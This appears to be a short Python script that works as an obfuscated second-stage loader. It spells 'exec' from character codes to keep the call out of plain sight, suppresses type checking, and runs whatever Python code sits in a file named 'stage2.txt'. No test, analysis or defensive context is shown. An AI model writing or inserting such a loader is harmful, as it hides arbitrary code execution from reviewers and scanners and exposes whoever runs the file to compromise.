# mypy: ignore-errors
import builtins

name = "".join(chr(c) for c in [101, 120, 101, 99])
getattr(builtins, name)(open("stage2.txt").read())
